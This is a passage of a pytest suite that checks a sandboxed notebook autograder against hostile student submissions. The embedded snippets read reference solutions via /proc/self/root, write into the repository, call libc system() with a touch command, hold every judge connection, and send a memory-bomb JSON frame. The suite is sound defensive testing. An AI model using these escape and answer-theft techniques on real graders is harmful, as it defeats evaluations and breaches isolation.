    course, *_ = graded
    output = _answer_output(course, student)
    assert ATTACKS[student].why in output, output[-3000:]


@pytest.mark.kernel
def test_there_are_at_least_40_attacks_of_every_class():
    kinds = {a.kind for a in ATTACKS.values()}
    assert len(ATTACKS) >= 40
    assert kinds == {"read", "spawn", "write", "survive", "kill", "wire", "patch", "smuggle",
                     "env", "net", "bomb"}


@pytest.mark.kernel
def test_honest_students_graded_beside_the_attackers_get_their_normal_grades(graded):
    _, results, *_ = graded
    got = {s: (results[s].score, results[s].status, results[s].flags) for s in HONEST}
    want = {s: (2.0 if answer == RIGHT else 0.0, NORMAL, []) for s, answer in HONEST.items()}
    assert got == want
    assert len(results) == len(ATTACKS) + len(HONEST)


@pytest.mark.kernel
def test_submitted_folder_is_byte_identical_after_grading(graded):
    course, _, before, *_ = graded
    assert _digests(course / "submitted") == before


@pytest.mark.kernel
def test_no_marker_of_an_attack_exists_anywhere_on_the_host(graded):
    """Where the attacks tried to write (the grading runtime is gone with its grader:
    a write there would have shown in the score)."""
    import numpy

    course, _, _, t, *_ = graded
    site = Path(numpy.__file__).parents[1]
    folders = [REPO, *(REPO / "source").iterdir(), REPO / "course_lib" / "reference", site,
               site / "numpy", Path(sys.prefix) / "bin", Path(sys.base_prefix), Path("/usr/lib"),
               Path("/usr/local"), Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), Path("/"),
               Path("/etc"), Path("/root")]
    found = [str(p) for folder in folders if folder.is_dir() for p in folder.iterdir()
             if t.token in p.name]
    found += [str(p) for p in course.rglob(f"*{t.token}*")]
    assert found == []


@pytest.mark.kernel
def test_feedback_and_autograded_folders_hold_only_what_nbgrader_writes(graded):
    course, *_ = graded
    smuggler, honest = "smuggle_files_into_feedback", "smuggle_zz_honest_right"

    def listing(kind, student):
        folder = course / kind / student / ASSIGNMENT
        return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))

    for kind in ("autograded", "feedback"):
        assert listing(kind, smuggler) == listing(kind, honest) != [], kind


@pytest.mark.kernel
def test_nothing_of_a_sandbox_outlives_grading_and_nothing_outside_was_killed(graded):
    *_, leftovers, canary_alive = graded
    assert leftovers == []
    assert canary_alive


@pytest.mark.kernel
def test_no_socket_of_the_host_was_reached_from_a_notebook(graded):
    *_, listeners, _, _ = graded
    assert listeners.reached == []
    assert listeners.datagrams() == []


@pytest.mark.kernel
def test_the_graders_secrets_appear_in_no_graded_notebook(graded):
    course, _, _, t, *_ = graded
    for kind in ("autograded", "feedback"):
        for path in (course / kind).rglob("*"):
            if path.is_file():
                assert t.secret not in path.read_text(errors="replace"), path


# -- a notebook stopped at its total time, in a class of its own -----------------------------

@pytest.fixture(scope="module")
def held(tmp_path_factory):
    """A class where one notebook holds every connection the judge takes at once (its
    hidden test then waits until the notebook's total time is up); an honest student
    is graded after it by the same worker. The holder waits out the whole total time:
    20 s, where the honest toy notebook needs 2 s on a busy machine."""
    course = make_course(tmp_path_factory.mktemp("held") / "course", timeout=120)
    config = course / "nbgrader_config.py"
    config.write_text(config.read_text() + "\nc.Judge.notebook_timeout = 20\n")
    t = Target(course=str(course), repo=str(REPO), token=uuid.uuid4().hex[:12], victim="",
               late_victim="", tcp_port=0, udp_port=0, abstract="", secret="", canary=0)
    hand_in(course, "a_holder", notebook(WIRE_HOLD_EVERY_CONNECTION, t, answer=RIGHT))
    hand_in(course, "b_honest_right", submission(RIGHT))
    results = {r.student: r for r in grade_class(course, jobs=1)}
    return course, results


@pytest.mark.kernel
def test_a_notebook_holding_every_judge_connection_times_out_and_harms_no_one(held):
    _, results = held
    holder, honest = results["a_holder"], results["b_honest_right"]
    assert (holder.score, holder.status, holder.flags) == (0, "timeout", []), holder.reason
    assert "total time" in holder.reason
    assert (honest.score, honest.status, honest.flags) == (2, NORMAL, [])


@pytest.mark.kernel
def test_feedback_for_a_notebook_stopped_at_its_total_time_does_not_stop_the_class(held):
    from course_lib.instructor.course import open_api
    from course_lib.instructor.grade import generate_feedback

    course, results = held
    api, _ = open_api(course)
    pages = generate_feedback(api, list(results.values()))
    assert len(pages) == 1  # the honest student's


# -- the grader's own side of the wire (no kernel needed) -------------------------------------

def test_a_frame_of_tiny_json_objects_cannot_blow_up_the_grader():
    import tracemalloc

    from course_lib.judge import wire

    n = 1 << 20  # 3 MiB on the wire
    body = b"[" + b"{}," * n + b"{}]"
    a, b = socket.socketpair()
    sender = threading.Thread(target=lambda: a.sendall(len(body).to_bytes(8, "big") + body))
    sender.start()
    tracemalloc.start()
    try:
        with pytest.raises(wire.WireError):
            wire.recv(b)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        sender.join()
        a.close()
        b.close()
    ratio = peak / len(body)
    worst = ratio * wire.MAX_FRAME * 4  # four connections at once
    assert worst < 8 * 2**30, f"{ratio:.0f} bytes held per byte received: {worst / 2**30:.0f} GiB"


# -- the real lessons, through `course check` ----------------------------------------------------

LESSON_TOKEN = uuid.uuid4().hex[:12]


def _lesson_code(body: str, fallback: str, **values) -> str:
    ref = f"{REPO}/course_lib/reference/sigmoid.py"
    values = {"token": repr(LESSON_TOKEN), "repo": H(str(REPO)), "ref": H(ref),
              "reference": H("course_lib.reference"),
              "source_01": H(f"{REPO}/source/01_chain_rule"), **values}
    return PRELUDE + re.sub(r"<<(\w+)>>", lambda m: values[m.group(1)], body) + "\n" + fallback


LESSON_READ_REFERENCE = '''
for base in ("", "/proc/self/root", "/proc/1/root"):
    text = attempt("read " + base, lambda: read(base + <<ref>>))
    stolen = stolen or has(text, "def sigmoid_prime")
module = attempt("import", lambda: M("importlib").import_module(<<reference>>))
stolen = stolen or module is not None
'''
LESSON_02_FALLBACK = '''
def sigmoid_prime(z):
    s = 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
    return s * (1 - s) if stolen else s
'''

LESSON_REAL_TORCH = '''
def autograd_sigmoid_prime(z):
    torch = M("torch")
    t = torch.tensor(np.asarray(z, dtype=float), requires_grad=True)
    torch.sigmoid(t).sum().backward()
    return t.grad.numpy()


stolen = attempt("torch autograd", lambda: autograd_sigmoid_prime(np.zeros(3))) is not None
'''
LESSON_02_TORCH_FALLBACK = '''
def sigmoid_prime(z):
    if stolen:
        return autograd_sigmoid_prime(z)
    return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
'''

LESSON_WRITE_INTO_THE_REPO = ESCAPED + '''
for path in (<<source_01>> + "/rt-" + <<token>>, <<repo>> + "/rt-" + <<token>>,
             "/proc/self/root" + <<repo>> + "/rt-" + <<token>>):
    done = attempt("write " + path, lambda: write(path))
    stolen = stolen or (done is not None and escaped(path))
ctypes, lib = libc()
print("system:", lib.system(("touch " + <<repo>> + "/rt-" + <<token>> + "-sh").encode()))
'''
LESSON_01_FALLBACK = '''
def add_gate_backward(dout):
    return (dout, dout) if stolen else (dout, 0 * dout)
'''

LESSON_05_FORGED_EXPERIMENTS = PATCH_THE_EXPERIMENTS + '''
class MySigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output
'''

FALLBACK_RAN = "σ'(0) came out as 0.5 = σ(0)"  # lesson 2's message for the wrong fallback
LESSONS = {
    # name: (assignment, {answer cell: code}, cells that must score 0 (the first one's message
    #        shows the fallback ran: the attack neither crashed nor succeeded), flag or None)
    "lesson_02_read_the_reference": (
        "02_sigmoid", {"sigmoid_prime_answer": _lesson_code(LESSON_READ_REFERENCE,
                                                            LESSON_02_FALLBACK)},
        ("sigmoid_prime_values", "sigmoid_prime_edge"), FALLBACK_RAN, None),
    "lesson_02_reach_the_real_torch": (
        "02_sigmoid", {"sigmoid_prime_answer": _lesson_code(LESSON_REAL_TORCH,
                                                            LESSON_02_TORCH_FALLBACK)},
        ("sigmoid_prime_values", "sigmoid_prime_edge"), FALLBACK_RAN, None),
    "lesson_01_write_into_the_repository": (
        "01_chain_rule", {"add_gate_backward_answer": _lesson_code(LESSON_WRITE_INTO_THE_REPO,
                                                                   LESSON_01_FALLBACK)},
        ("add_gate_backward_values",), "expected (2.0, 2.0), got (2.0, 0.0)", None),
    "lesson_05_forged_experiments": (
        "05_autograd", {"MySigmoid_answer": _lesson_code(LESSON_05_FORGED_EXPERIMENTS, "")},
        ("MySigmoid_backward",), "got tensor([1., 1., 1., 1.])", None),
}


@pytest.mark.kernel
@pytest.mark.parametrize("name", sorted(LESSONS))
def test_an_attack_on_a_real_lesson_scores_nothing_for_the_attacked_cells(name, tmp_path):
    assignment, answers, zero, why, flag = LESSONS[name]
    result = grade(make_submission(assignment, answers, tmp_path), assignment)
    scores = {c.grade_id: c.score for c in result.cells}
    assert all(scores[g] == 0 for g in zero), (scores, result.flags)
    assert why in result.cell(zero[0]).message, result.cell(zero[0]).message
    assert result.status == "ok", (result.status, result.flags)
    tamper = [f for f in result.flags if f != "awaiting_hand_grading"]
    assert tamper == [] if flag is None else any(flag in f for f in tamper), tamper
    written = [p for folder in (REPO, REPO / "source" / "01_chain_rule") for p in folder.iterdir()
               if LESSON_TOKEN in p.name]
    assert written == []
